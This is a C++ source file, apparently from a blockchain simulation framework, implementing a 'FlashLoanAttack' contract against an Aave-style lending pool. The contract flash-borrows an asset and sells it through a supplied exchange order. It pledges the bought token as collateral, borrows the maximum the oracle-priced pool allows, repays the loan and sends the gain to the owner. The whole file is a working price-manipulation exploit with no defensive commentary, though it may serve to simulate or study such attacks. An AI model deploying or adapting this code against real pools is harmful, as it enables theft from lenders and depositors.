#include "chains/contracts/lending/flash_loan_attack.h"

#include <algorithm>

#include "chains/contracts/checked_math.h"
#include "chains/contracts/external_call.h"
#include "chains/contracts/storage_layout.h"

namespace orrery::chains {
namespace {

constexpr unsigned kOwner = 0, kPool = 1, kOracle = 2;  // numbers of immutables
constexpr unsigned kVariableRate = 2;

const ExternalFunction<void, Address, Address, Uint256, Bytes, std::uint16_t> kFlashLoanSimple(
    "function flashLoanSimple(address receiverAddress, address asset, uint256 amount, bytes params, "
    "uint16 referralCode)");
const ExternalFunction<void, Address, Uint256, Address, std::uint16_t> kSupply(
    "function supply(address asset, uint256 amount, address onBehalfOf, uint16 referralCode)");
const ExternalFunction<void, Address, Uint256, Uint256, std::uint16_t, Address> kBorrow(
    "function borrow(address asset, uint256 amount, uint256 interestRateMode, uint16 referralCode, "
    "address onBehalfOf)");
using Words6 = std::tuple<Uint256, Uint256, Uint256, Uint256, Uint256, Uint256>;
const ExternalFunction<Words6, Address> kAccountData(
    "function getUserAccountData(address user) view returns (uint256, uint256, uint256, uint256, uint256, uint256)");
// The fifteen words of Aave's ReserveData; the ninth is the aToken.
using Words15 = std::tuple<Uint256, Uint256, Uint256, Uint256, Uint256, Uint256, Uint256, Uint256, Address, Uint256,
                           Uint256, Uint256, Uint256, Uint256, Uint256>;
const ExternalFunction<Words15, Address> kReserveData("function getReserveData(address asset) view returns (uint256)");
const ExternalFunction<Uint256, Address> kAssetPrice("function getAssetPrice(address asset) view returns (uint256)");
const ExternalFunction<Uint256, Address> kBalanceOf("function balanceOf(address account) view returns (uint256)");
const ExternalFunction<std::uint8_t> kDecimals("function decimals() view returns (uint8)");
const ExternalFunction<bool, Address, Uint256> kApprove(
    "function approve(address spender, uint256 amount) returns (bool)");
const ExternalFunction<bool, Address, Uint256> kTransfer(
    "function transfer(address to, uint256 amount) returns (bool)");

Address setting(Execution& execution, unsigned number) {
  return to_address(execution.load_immutable(immutable_slot(number)));
}
Uint256 own_balance(Execution& execution, const Address& token) {
  return kBalanceOf(execution, token, execution.self());
}

void initialize(Execution& execution, Address owner, Address pool, Address oracle) {
  execution.store(immutable_slot(kOwner), to_uint256(owner));
  execution.store(immutable_slot(kPool), to_uint256(pool));
  execution.store(immutable_slot(kOracle), to_uint256(oracle));
}

void strike(Execution& execution, Address sold, Uint256 amount, Address bought, Address exchange, Bytes order) {
  require(execution.sender() == setting(execution, kOwner), "Only callable by owner");
  kFlashLoanSimple(execution, setting(execution, kPool), execution.self(), sold, amount,
                   abi::encode(bought, exchange, order), std::uint16_t(0));
  const Uint256 gain = own_balance(execution, sold);
  if (gain != 0 && !kTransfer(execution, sold, execution.sender(), gain)) revert_empty();
}

void sell(Execution& execution, const Address& sold, const Uint256& amount, const Address& exchange,
          const Bytes& order) {
  if (!kApprove(execution, sold, exchange, amount)) revert_empty();
  CallResult result = execution.call(exchange, 0, order);
  if (!result.ok) throw Revert{std::move(result.output)};
}
void pledge(Execution& execution, const Address& pool, const Address& asset) {
  const Uint256 got = own_balance(execution, asset);
  if (!kApprove(execution, asset, pool, got)) revert_empty();
  kSupply(execution, pool, asset, got, execution.self(), std::uint16_t(0));
}
/// All that the pool lends against the pledge, or all that it has.
void borrow(Execution& execution, const Address& pool, const Address& asset) {
  const Uint256 available = std::get<2>(kAccountData(execution, pool, execution.self()));
  if (available == 0) return;
  const Uint256 price = kAssetPrice(execution, setting(execution, kOracle), asset);
  // One unit of value less, since the pool rounds half up what it lends and what it asks.
  const Uint256 wanted =
      checked_divide(checked_multiply(available - 1, power_of_ten(kDecimals(execution, asset))), price);
  const Uint256 cash = kBalanceOf(execution, asset, std::get<8>(kReserveData(execution, pool, asset)));
  const Uint256 amount = std::min(wanted, cash);
  if (amount != 0) kBorrow(execution, pool, asset, amount, Uint256(kVariableRate), std::uint16_t(0), execution.self());
}

bool execute_operation(Execution& execution, Address asset, Uint256 amount, Uint256 premium, Address initiator,
                       Bytes params) {
  const Address pool = setting(execution, kPool);
  require(execution.sender() == pool && initiator == execution.self(), "not a loan of its own");
  const auto [bought, exchange, order] = abi::decode<Address, Address, Bytes>(params);
  sell(execution, asset, amount, exchange, order);
  pledge(execution, pool, bought);
  borrow(execution, pool, asset);
  // The pool fetches the repayment itself, and everything reverts when it is not there.
  return kApprove(execution, asset, pool, checked_add(amount, premium));
}

}  // namespace

FlashLoanAttack::FlashLoanAttack() {
  add({{"constructor(address owner, address pool, address oracle)", handler_of(initialize)},
       {"function strike(address sold, uint256 amount, address bought, address exchange, bytes order)",
        handler_of(strike), 1'500},
       {"function executeOperation(address asset, uint256 amount, uint256 premium, address initiator, bytes params) "
        "returns (bool)",
        handler_of(execute_operation), 3'000}});
}

}  // namespace orrery::chains
